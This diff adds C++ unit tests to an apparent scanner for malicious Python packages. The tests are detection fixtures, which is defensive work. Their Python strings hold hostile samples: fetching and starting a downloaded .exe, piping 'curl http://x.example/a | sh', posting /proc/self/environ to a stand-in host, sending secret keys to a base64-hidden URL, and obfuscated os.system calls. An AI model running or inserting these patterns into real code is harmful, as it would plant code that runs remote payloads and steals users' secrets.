@@ -415,6 +415,92 @@ TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
   EXPECT_EQ(Find(fs, "process-at-import")->message.find("Python"), std::string::npos);
 }
 
+// A download that is started is critical, not high, when what the module
+// fetches and starts is a Windows program it names; other downloads keep
+// their severity.
+TEST(Behaviour, DownloadedWindowsProgramStartedIsCritical) {
+  auto critical = [](std::string_view code) {
+    auto fs = Analyze(code, Phase::kRuntime);
+    const Finding* f = Find(fs, "download-exec");
+    return f ? f->severity == Severity::kCritical : false;
+  };
+  EXPECT_TRUE(critical("import os, requests\ndef f():\n    r = requests.get('https://x.example/d')\n"
+                       "    open('C://K//svc.exe', 'wb').write(r.content)\n"
+                       "    os.system('start C://K//svc.exe')\n"));
+  EXPECT_TRUE(critical("import os, subprocess, urllib.request\ndef f(url):\n"
+                       "    p = os.path.join('d', 'helper.exe')\n"
+                       "    urllib.request.urlretrieve(url, p)\n    subprocess.run([p])\n"));
+  EXPECT_TRUE(critical("import os\nos.system('curl.exe -OLJ https://x.example/m.exe')\n"
+                       "os.system('m.exe -w 1')\n"));
+  // The same downloads of a script or an archive: still high.
+  auto sev = [](std::string_view code) {
+    auto fs = Analyze(code, Phase::kRuntime);
+    const Finding* f = Find(fs, "download-exec");
+    return f ? f->severity : Severity::kInfo;
+  };
+  EXPECT_EQ(sev("import os, subprocess, urllib.request\ndef f(url):\n"
+                "    p = os.path.join('d', 'tool.sh')\n"
+                "    urllib.request.urlretrieve(url, p)\n    subprocess.run(['sh', p])\n"),
+            Severity::kHigh);
+  // "exe" inside a word or a domain is no program name.
+  EXPECT_EQ(sev("import os, subprocess, urllib.request\ndef f(url):\n"
+                "    p = os.path.join('d', 'tool.exe_backup.sh')\n"
+                "    urllib.request.urlretrieve('https://exe.example/t', p)\n    subprocess.run(['sh', p])\n"),
+            Severity::kHigh);
+}
+
+// Code handed to a second interpreter with -c at import time: constant code
+// that imports only the standard library is analysed as a layer and judged
+// by what it does (the start itself stays low); code that imports another
+// package, or that is built at run time, keeps the start critical.
+TEST(Behaviour, InlinePythonAtImportIsJudgedByItsCode) {
+  auto at = [](std::string_view code) {
+    auto fs = Analyze(code);
+    const Finding* f = Find(fs, "process-at-import");
+    return f ? f->severity : Severity::kInfo;
+  };
+  EXPECT_EQ(at("import subprocess, sys\n"
+               "subprocess.run([sys.executable, '-c', 'import sys; print(sys.prefix)'])\n"),
+            Severity::kLow);
+  EXPECT_EQ(at("import subprocess, sys\nCODE = 'import sysconfig; print(sysconfig.get_paths())'\n"
+               "subprocess.check_output([sys.executable, '-c', CODE])\n"),
+            Severity::kLow);
+  auto probe = Analyze("import subprocess, sys\n"
+                       "subprocess.run([sys.executable, '-c', 'import sys; print(sys.prefix)'])\n");
+  for (const Finding& f : probe) EXPECT_LT(f.severity, Severity::kMedium) << Rules(probe);
+  // Harmful constant code: the layer's own findings carry it.
+  auto harmful = Analyze("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
+                         "\"import os; os.system('curl http://x.example/a | sh')\"])\n");
+  const Finding* dl = Find(harmful, "download-exec");
+  ASSERT_NE(dl, nullptr) << Rules(harmful);
+  EXPECT_GE(dl->severity, Severity::kHigh);
+  // Another package imported in a detached interpreter, code built at run
+  // time, and code that does not parse: critical as before.
+  EXPECT_EQ(at("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n"),
+            Severity::kCritical);
+  EXPECT_EQ(at("import subprocess\nsubprocess.Popen(['python3', '-c', "
+               "\"import warnings; warnings.filterwarnings('ignore'); from other import x\"])\n"),
+            Severity::kCritical);
+  EXPECT_EQ(at("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
+               "\"__import__('o'+'s').system('id')\"])\n"),
+            Severity::kCritical);
+  EXPECT_EQ(at("import subprocess, sys\ncode = open('x').read()\n"
+               "subprocess.Popen([sys.executable, '-c', code])\n"),
+            Severity::kCritical);
+  EXPECT_EQ(at("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import ('])\n"),
+            Severity::kCritical);
+}
+
+// The process's environment read from /proc is secret data like os.environ.
+TEST(Behaviour, ProcEnvironFileSentOut) {
+  ExpectFinding("import requests\nwith open('/proc/self/environ', 'rb') as f:\n"
+                "    d = f.read()\nrequests.post('https://x.example/', data={'e': d})\n",
+                "exfiltration", Severity::kHigh, Phase::kRuntime);
+  ExpectNoFinding("import requests\nwith open('/proc/self/status') as f:\n"
+                  "    d = f.read()\nrequests.post('https://x.example/', data={'e': d})\n",
+                  "exfiltration");
+}
+
 TEST(Behaviour, WholeEnvironmentSentFromAMethod) {
   ExpectFinding("import os, requests\nclass C:\n    def send(self):\n        s = ''\n"
                 "        for k, v in os.environ.items():\n            s += v\n"
@@ -533,6 +619,30 @@ TEST(Behaviour, CodeDecryptedThroughSeveralStepsIsDecoded) {
                     "    exec(code)\n", Phase::kRuntime);
   const Finding* f = Find(fs, "exec-dynamic");
   EXPECT_TRUE(f == nullptr || f->severity < Severity::kHigh) << Rules(fs);
+}
+
+// What is sent to a hidden address: values named as secrets (in the call or
+// in what its arguments are assigned) make the call critical.
+TEST(Behaviour, SecretsSentToAHiddenAddress) {
+  auto sev = [](std::string_view code) {
+    auto fs = Analyze(code, Phase::kRuntime);
+    const Finding* f = Find(fs, "hidden-destination");
+    return f ? f->severity : Severity::kInfo;
+  };
+  EXPECT_EQ(sev("import base64, requests\ndef c(access_key, secret_key):\n"
+                "    data = {'ak': access_key, 'sk': secret_key}\n"
+                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
+                "json=data)\n"),
+            Severity::kCritical);
+  EXPECT_EQ(sev("import base64, requests\ndef c(t):\n"
+                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
+                "json={'token': t})\n"),
+            Severity::kCritical);
+  // A literal body, with a secret-named variable that is not sent: high.
+  EXPECT_EQ(sev("import base64, requests\ndef c(n, secret_key):\n"
+                "    requests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), "
+                "json={'n': 1})\n"),
+            Severity::kHigh);
 }
 
 TEST(Behaviour, NetworkAtInstall) {
